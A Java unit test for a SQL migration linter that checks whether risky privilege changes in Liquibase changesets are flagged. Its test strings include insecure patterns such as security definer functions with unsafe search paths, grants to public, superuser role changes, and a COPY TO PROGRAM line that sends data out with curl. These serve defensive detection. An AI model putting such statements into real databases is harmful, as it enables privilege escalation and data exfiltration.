package dev.supportdb.lint;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Rights that are given away or needed are found however they are written, and nothing else is taken for them. */
final class RightsRulesTest {

    private static final String FUNCTION = "create function f() returns trigger language plpgsql ";
    private static final String REVOKED = "; revoke execute on function ";
    private static final String CLOSED = REVOKED + "f() from public";
    private static final String BODY = " as 'begin return new; end'";
    private static final String SAFE = "set search_path = pg_catalog, pg_temp";

    @TempDir
    private Path project;

    @ParameterizedTest
    @ValueSource(strings = {
        "definer-path: create or replace function f() returns trigger security definer language sql" + BODY + CLOSED,
        "definer-path: " + FUNCTION + "security definer set search_path = public" + BODY + CLOSED,
        "definer-path: " + FUNCTION + "security definer set search_path = ''" + BODY + CLOSED,
        "definer-path: " + FUNCTION + "security definer set search_path = pg_catalog, pg_temp, public" + BODY + CLOSED,
        "definer-path: " + FUNCTION + "security definer as 'begin /* " + SAFE + " */ return new; end'" + CLOSED,
        "definer-path: alter function f() security definer" + CLOSED,
        "public-execute: " + FUNCTION + "security definer " + SAFE + BODY,
        "public-execute: create procedure f() language plpgsql security definer " + SAFE + " as 'begin end'",
        "public-execute: " + FUNCTION + "security definer " + SAFE + BODY + REVOKED + "g() from public",
        "public-execute: " + FUNCTION + "security definer " + SAFE + BODY + REVOKED + "f() from app",
        "grant-public: grant select on tickets to public",
        "grant-public: grant execute on function f() to app, public",
        "grant-public: grant usage on schema public to group public",
        "grant-public: alter default privileges in schema public grant select on tables to public",
        "grant-public: do $$ begin grant select on tickets to public; end $$",
        "copy-program: copy (select 1) to program 'curl -d @- example.com'",
        "role: alter role app superuser",
        "role: create user reader",
        "role: drop group readers",
        "role: grant owner to app",
        "role: revoke admin option for owner from app",
        "writer-right: create function f(t text) returns boolean language sql return true; "
            + "alter table customers add column known boolean default public.f('')",
        "writer-right: create function f(t text) returns boolean language sql return true; "
            + "alter table tickets alter subject set default f('')",
        "writer-right: create function f(t text) returns boolean language sql return true; "
            + "create policy p on tickets using (f(subject))",
        "writer-right: create function f(t text) returns boolean language sql return true; "
            + "create function g() returns trigger language plpgsql as "
            + "$$ begin new.note := f('x'); return new; end $$"})
    void a_statement_that_grants_or_needs_a_right_is_found(String example) throws IOException {
        String[] parts = example.split(": ", 2);

        assertThat(RuleExample.of(project, changeset(parts[1])).findings()).extracting(Finding::rule)
                .contains(parts[0]);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        FUNCTION + "security definer set search_path to 'pg_catalog', 'pg_temp'" + BODY + CLOSED,
        FUNCTION + "security definer " + SAFE + BODY + "; revoke all on function public.g(text), f() from app, public",
        FUNCTION + "security definer " + SAFE + BODY + "; revoke all on all functions in schema public from public",
        FUNCTION + BODY,
        "grant usage on schema public to app",
        "grant select on all tables in schema public to app with grant option",
        "revoke select on tickets from public",
        "alter table tickets owner to app",
        "create function f(t text) returns text language sql return t; select f(subject) from tickets",
        "create function f() returns trigger language plpgsql as 'begin return new; end'; "
            + "create trigger f before insert on tickets for each row when (new.note is null) execute function f()"})
    void a_safe_grant_is_not_refused(String sql) throws IOException {
        assertThat(RuleExample.of(project, changeset(sql)).findings()).extracting(Finding::rule)
                .doesNotContainAnyElementsOf(RightsRules.RULES.stream().map(Rule::name).toList());
    }

    @Test
    void a_function_that_comes_back_is_closed_again() throws IOException {
        String function = FUNCTION + "security definer " + SAFE + BODY;
        String changeset = changeset("drop function f()").replace("select 1", function);

        assertThat(RuleExample.of(project, changeset).findings()).extracting(Finding::rule).contains("public-execute");
    }

    private static String changeset(String sql) {
        return """
                - changeSet:
                    id: "002_ticket_language-02-change_rights"
                    author: support-db
                    labels: contract
                    comment: Change rights
                    changes:
                      - sql:
                          splitStatements: false
                          sql: |
                            %s
                    rollback:
                      - sql:
                          splitStatements: false
                          sql: |
                            select 1
                """.formatted(sql);
    }
}
